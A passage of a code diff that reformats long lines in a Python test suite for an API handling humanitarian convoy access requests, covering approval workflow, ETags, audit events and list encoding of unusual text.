+    )
     assert picture["days_since_last_delivery"] == 0
     # Reported today: the rest see it from tomorrow, by its day (tests/test_convoy_secrecy.py).
     assert client.get(f"/v1/cities/{city}/access", headers=cast["observer"]).json()["last_delivery"] is None
@@ -670,8 +939,17 @@ def test_a_convoy_from_draft_to_partially_delivered(client, city, cast):
 
 def test_coordinators_may_cancel_and_record_outcomes(client, city, cast, session):
     created = _create(client, cast["partner"], city)
-    assert _do(client, cast["coordinator"], created["id"], "cancel", {"reason": "Security"}).json()["status"] == "cancelled"
-    events = session.execute(select(AuditEvent.reason).where(AuditEvent.entity_id == created["id"], AuditEvent.action == "cancelled")).scalars().all()
+    assert (
+        _do(client, cast["coordinator"], created["id"], "cancel", {"reason": "Security"}).json()["status"]
+        == "cancelled"
+    )
+    events = (
+        session.execute(
+            select(AuditEvent.reason).where(AuditEvent.entity_id == created["id"], AuditEvent.action == "cancelled")
+        )
+        .scalars()
+        .all()
+    )
     assert events == ["Security"]
 
 
@@ -689,12 +967,17 @@ def test_picture_etags_move_only_when_a_convoy_could_show(client, cast, city):
     before = etags()
     created = _create(client, partner, city)
     assert _do(client, partner, created["id"], "submit").status_code == 200
-    assert _do(client, coordinator, created["id"], "request-changes", {"reason": "Name the checkpoint"}).status_code == 200
+    assert (
+        _do(client, coordinator, created["id"], "request-changes", {"reason": "Name the checkpoint"}).status_code == 200
+    )
     assert _do(client, partner, created["id"], "submit").status_code == 200
     unchanged = etags()
     assert unchanged[:2] == before[:2]
     picture_etag = unchanged[0]
-    assert client.get(f"/v1/cities/{city}/access", headers={**coordinator, "If-None-Match": picture_etag}).status_code == 304
+    assert (
+        client.get(f"/v1/cities/{city}/access", headers={**coordinator, "If-None-Match": picture_etag}).status_code
+        == 304
+    )
 
     assert _do(client, coordinator, created["id"], "approve", {}).status_code == 200
     approved = etags()
@@ -716,32 +999,71 @@ def test_lists_encode_rows_exactly_as_the_models_would(world, client, city, cast
 
     partner, coordinator = cast["partner"], cast["coordinator"]
     text = 'Line 1\nLine 2\t\x01\x1f\x7f \u2028 "quoted" \\ back, دوما 🚚'
-    lines = [{"sector": "food", "item": "Flour", "quantity": 0.1, "unit": "MT"},
-             {"sector": "health", "item": text[:200], "quantity": 1e-7, "unit": "kits"},
-             {"sector": "wash", "item": "Water", "quantity": 999999999.99, "unit": "l"}]
-    draft = _create(client, partner, city, origin_city_id=city, origin_name=None, notes=text, cargo_lines=lines,
-                    contact={"name": "Léa \"Lead\"", "phone": "+963\t000", "email": "lead@example.org"})
+    lines = [
+        {"sector": "food", "item": "Flour", "quantity": 0.1, "unit": "MT"},
+        {"sector": "health", "item": text[:200], "quantity": 1e-7, "unit": "kits"},
+        {"sector": "wash", "item": "Water", "quantity": 999999999.99, "unit": "l"},
+    ]
+    draft = _create(
+        client,
+        partner,
+        city,
+        origin_city_id=city,
+        origin_name=None,
+        notes=text,
+        cargo_lines=lines,
+        contact={"name": 'Léa "Lead"', "phone": "+963\t000", "email": "lead@example.org"},
+    )
     overdue = _create(client, partner, city)
     assert _do(client, partner, overdue["id"], "submit").status_code == 200
     approved = _create(client, partner, city, cargo_lines=lines)
     assert _do(client, partner, approved["id"], "submit").status_code == 200
     line_ids = [line["id"] for line in approved["cargo_lines"]]
-    assert _do(client, coordinator, approved["id"], "approve", {
-        "lines": [{"line_id": line_ids[2], "approved_quantity": 12345.678}], "note": text}).status_code == 200
+    assert (
+        _do(
+            client,
+            coordinator,
+            approved["id"],
+            "approve",
+            {"lines": [{"line_id": line_ids[2], "approved_quantity": 12345.678}], "note": text},
+        ).status_code
+        == 200
+    )
     done = _create(client, partner, city, cargo_lines=lines[:2])
     done_lines = [line["id"] for line in done["cargo_lines"]]
-    for action, body, headers in (("submit", None, partner), ("approve", None, coordinator), ("dispatch", None, partner), ("complete", {
-            "outcome": "partially_delivered", "people_reached": 15000, "lines": [
-                {"line_id": done_lines[0], "delivered_quantity": 0.05},
-                {"line_id": done_lines[1], "delivered_quantity": 0, "removed_quantity": 1e-7, "removed_at": text[:200],
-                 "removal_reason": text}]}, partner)):
+    for action, body, headers in (
+        ("submit", None, partner),
+        ("approve", None, coordinator),
+        ("dispatch", None, partner),
+        (
+            "complete",
+            {
+                "outcome": "partially_delivered",
+                "people_reached": 15000,
+                "lines": [
+                    {"line_id": done_lines[0], "delivered_quantity": 0.05},
+                    {
+                        "line_id": done_lines[1],
+                        "delivered_quantity": 0,
+                        "removed_quantity": 1e-7,
+                        "removed_at": text[:200],
+                        "removal_reason": text,
+                    },
+                ],
+            },
+            partner,
+        ),
+    ):
         assert _do(client, headers, done["id"], action, body).status_code == 200, action
     cancelled = _create(client, partner, city)
     assert _do(client, coordinator, cancelled["id"], "cancel", {"reason": text}).status_code == 200
     frozen_clock.advance(days=12)  # the submitted one is past its review deadline now
     # (the clock moved past the first tokens' lifetime: sign in again)
     wfp = session.get(Organization, uuid.UUID(draft["organization_id"]))
-    callers = {"partner": world.headers(world.user(Role.partner, wfp)), "coordinator": world.headers(world.user(Role.coordinator))}
+    callers = {
+        "partner": world.headers(world.user(Role.partner, wfp)),
+        "coordinator": world.headers(world.user(Role.coordinator)),
+    }
 
     def both(headers, params):
         """The page encoded from rows just read, then from the requests kept (routers._page_json)."""
@@ -797,10 +1119,17 @@ def test_every_path_shows_a_request_from_one_shape(client, city, cast, monkeypat
     partner, coordinator = cast["partner"], cast["coordinator"]
     created = _create(client, partner, city)
     shown = [created, client.get(f"/v1/access-requests/{created['id']}", headers=partner).json()]
-    edited = client.patch(f"/v1/access-requests/{created['id']}", json={"trucks": 12}, headers={**partner, "If-Match": "*"})
+    edited = client.patch(
+        f"/v1/access-requests/{created['id']}", json={"trucks": 12}, headers={**partner, "If-Match": "*"}
+    )
     assert edited.status_code == 200, edited.text
-    for action, headers, body in (("submit", partner, None), ("request-changes", coordinator, {"reason": "Fewer trucks"}),
-                                  ("submit", partner, None), ("approve", coordinator, None), ("dispatch", partner, None)):
+    for action, headers, body in (
+        ("submit", partner, None),
+        ("request-changes", coordinator, {"reason": "Fewer trucks"}),
+        ("submit", partner, None),
+        ("approve", coordinator, None),
+        ("dispatch", partner, None),
+    ):
         response = _do(client, headers, created["id"], action, body)
         assert response.status_code == 200, (action, response.text)
         shown.append(response.json())
@@ -813,8 +1142,11 @@ def test_a_value_orjson_cannot_encode_falls_back_to_the_models(client, city, cas
     """No API input carries an integer beyond 64 bits, but a row written by other means may:
     the list is then encoded by the models, not a 500."""
     created = _create(client, cast["partner"], city)
-    session.execute(AccessRequest.__table__.update().where(AccessRequest.__table__.c.id == uuid.UUID(created["id"]))
-                    .values(contact={"name": "Lead", "reference": 10**30}))
+    session.execute(
+        AccessRequest.__table__.update()
+        .where(AccessRequest.__table__.c.id == uuid.UUID(created["id"]))
+        .values(contact={"name": "Lead", "reference": 10**30})
+    )
     session.commit()
     response = client.get("/v1/access-requests", headers=cast["partner"])
     assert response.status_code == 200
@@ -854,24 +1186,37 @@ def test_a_list_reads_and_encodes_a_request_once_per_version(client, city, cast,
     assert reads == {"rows": [sorted([first["id"], second["id"]])], "lines": [sorted([first["id"], second["id"]])]}
     assert listed() == before and len(reads["rows"]) == 1  # kept: nothing read again
     # Cargo lines alone (an edit of a draft): the version moves with them.
-    edited = client.patch(f"/v1/access-requests/{first['id']}", json={"cargo_lines": [
-        {"sector": "wash", "item": "Water", "quantity": 5, "unit": "l"}]}, headers={**partner, "If-Match": "*"})
+    edited = client.patch(
+        f"/v1/access-requests/{first['id']}",
+        json={"cargo_lines": [{"sector": "wash", "item": "Water", "quantity": 5, "unit": "l"}]},
+        headers={**partner, "If-Match": "*"},
+    )
     assert edited.status_code == 200, edited.text
     after = listed()
     assert reads["rows"][-1] == reads["lines"][-1] == [first["id"]]
     assert [line["item"] for line in after[first["id"]]["cargo_lines"]] == ["Water"]
-    assert after[first["id"]]["version"] == before[first["id"]]["version"] + 1 and after[second["id"]] == before[second["id"]]
+    assert (
+        after[first["id"]]["version"] == before[first["id"]]["version"] + 1
+        and after[second["id"]] == before[second["id"]]
+    )
     # A review that changes the lines' approved quantities and the state.
     assert _do(client, partner, second["id"], "submit").status_code == 200
     line = second["cargo_lines"][1]["id"]
-    assert _do(client, coordinator, second["id"], "approve", {"lines": [{"line_id": line, "approved_quantity": 5}]}).status_code == 200
+    assert (
+        _do(
+            client, coordinator, second["id"], "approve", {"lines": [{"line_id": line, "approved_quantity": 5}]}
+        ).status_code
+        == 200
+    )
     approved = listed()[second["id"]]
     assert approved["status"] == "approved" and approved["cargo_lines"][1]["approved_quantity"] == 5
     assert approved == client.get(f"/v1/access-requests/{second['id']}", headers=partner).json()
     assert reads["rows"][-1] == [second["id"]] and len(reads["rows"]) == 3
 
 
-def test_what_a_kept_request_shows_per_viewer_and_moment_is_computed_each_time(client, city, cast, frozen_clock, world, session):
+def test_what_a_kept_request_shows_per_viewer_and_moment_is_computed_each_time(
+    client, city, cast, frozen_clock, world, session
+):
     """The allowed actions (per viewer) and overdue (per moment) are not kept with the encoding."""
     created = _create(client, cast["partner"], city)
     assert _do(client, cast["partner"], created["id"], "submit").status_code == 200
@@ -893,7 +1238,9 @@ def test_what_a_kept_request_shows_per_viewer_and_moment_is_computed_each_time(c
     assert late["overdue"] is True and late["version"] == as_partner["version"]
 
 
-def test_a_request_changed_between_its_listing_and_its_reading_is_shown_as_read_and_not_kept(client, city, cast, monkeypatch):
+def test_a_request_changed_between_its_listing_and_its_reading_is_shown_as_read_and_not_kept(
+    client, city, cast, monkeypatch
+):
     """On PostgreSQL each statement sees what was committed when it began, so a request may change
     between the list's statement and the reading of its row: it is shown as read (its computed fields
     too), and not kept under the version listed."""
@@ -904,8 +1251,10 @@ def test_a_request_changed_between_its_listing_and_its_reading_is_shown_as_read_
     real = router.request_lists.access_request_rows
 
     def changed_meanwhile(session, ids):  # noqa: ANN001, ANN202
-        return {i: AccessRequestRow(**{**row._asdict(), "version": row.version + 1, "status": "cancelled"})
-                for i, row in real(session, ids).items()}
+        return {
+            i: AccessRequestRow(**{**row._asdict(), "version": row.version + 1, "status": "cancelled"})
+            for i, row in real(session, ids).items()
+        }
 
     monkeypatch.setattr(router.request_lists, "access_request_rows", changed_meanwhile)
     [shown] = client.get("/v1/access-requests", headers=cast["partner"]).json()["items"]
